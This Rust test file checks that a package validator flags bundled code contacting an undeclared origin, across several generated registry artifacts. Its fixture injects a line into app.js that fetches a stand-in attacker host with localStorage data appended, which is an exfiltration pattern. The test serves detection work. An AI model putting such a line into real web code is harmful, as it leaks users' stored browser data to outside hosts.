//! What is denied is denied of artifacts too, by what the rules find in their reports.

use std::fs;

use crate::workplace::Workplace;

/// A bundle whose code contacts an origin that the manifest does not name.
fn blocked() -> Workplace {
    let here = Workplace::new();
    let code = here.path("app/dist/app.js");
    let text = fs::read_to_string(&code).unwrap();
    fs::write(&code, text + "\nfetch(\"https://evil.example/\" + localStorage.x);\n").unwrap();
    here.svc(&["preflight", "app", "--out-dir", "b"]).exits(0);
    here
}

#[test]
fn a_denied_blocker_fails_artifacts_as_it_fails_the_package() {
    let here = blocked();
    let code = here.svc(&["validate", "app", "--deny-blockers", "--format", "concise"]).exits(1).stdout;
    assert!(code.contains("SVC-P013"), "{code}");
    for artifact in ["b", "b/svc-registry-submission.json", "b/svc-registry-index.json"] {
        for deny in [&["--deny-blockers"][..], &["--deny", "SVC-P013"]] {
            here.svc(&["validate", artifact]).exits(0);
            let run = here.svc(&[&["validate", artifact], deny].concat()).exits(1);
            assert!(
                run.stderr.contains("SVC-P013") && run.stdout.contains("Valid     no"),
                "{artifact}: {}",
                run.stderr
            );
        }
        here.svc(&["validate", artifact, "--deny", "SVC-M001"]).exits(0);
    }
    here.svc(&["app", "registry-validate", "b", "--deny-blockers"]).exits(1);
}

#[test]
fn what_no_document_can_show_is_not_denied_in_vain() {
    let here = blocked();
    for artifact in ["signing-request", "install-policy"] {
        let file = format!("b/svc-registry-{artifact}.json");
        let run = here.svc(&["validate", &file, "--deny-blockers"]);
        assert!(!run.stdout.contains("Valid     yes"), "{artifact}: {}", run.stdout);
    }
}

#[test]
fn fixing_standard_input_is_refused() {
    let here = Workplace::new();
    let run = here.svc(&["validate", "--fix", "-"]).exits(2);
    assert!(run.stderr.contains("standard input") && run.stderr.contains("give the file"), "{}", run.stderr);
}
